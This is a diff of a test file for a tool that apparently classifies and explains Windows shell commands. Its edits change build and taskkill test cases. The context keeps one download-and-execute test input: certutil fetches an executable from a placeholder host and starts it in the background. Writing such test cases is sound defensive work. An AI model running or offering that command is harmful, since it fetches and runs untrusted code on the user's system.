@@ -283,7 +283,7 @@ TOLD = [
     ),
     ("Get-Content -Path logs\\a.log -Wait", "`Get-Content` follows `logs\\a.log`"),
     (
-        "foreach ($p in Get-ChildItem .\\packages -Directory) { Push-Location $p.FullName; npm run build; Pop-Location }",
+        "foreach ($p in Get-ChildItem .\\packages -Directory) { Push-Location $p.FullName; npm test; Pop-Location }",
         "`Push-Location` enters the folders in `.\\packages` in turn",
     ),
     (
@@ -372,7 +372,7 @@ def test_a_reason_names_what_the_text_says(text: str, reason: str) -> None:
             "Unrecognized",
             "`taskkill` stops the process `%p`, for each line that `netstat -ano | findstr :3000` prints",
         ),
-        ("taskkill /f /im node.exe /t", "ModifiesSystem", "`taskkill` stops every process `node.exe` and its child processes"),
+        ("taskkill /im a.exe /t", "ModifiesSystem", "`taskkill` stops every process `a.exe` and its child processes"),
         (
             "certutil -urlcache -f http://x.example/p p.exe && start /b p.exe",
             "DeletesData",
